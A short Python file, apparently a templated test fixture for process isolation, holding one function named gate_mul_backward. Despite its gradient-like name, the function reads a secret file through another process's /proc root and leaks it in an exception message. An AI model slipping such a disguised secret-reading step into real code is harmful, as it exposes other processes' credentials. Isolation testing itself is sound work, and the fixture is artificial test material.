"""Reads a secret by way of another process's root.

row: files
stopped_at: 2
shows: told
"""

def gate_mul_backward(x, y, dz):
    raise ValueError(open("/proc/@VICTIM@/root@SECRET@").read()[:200])
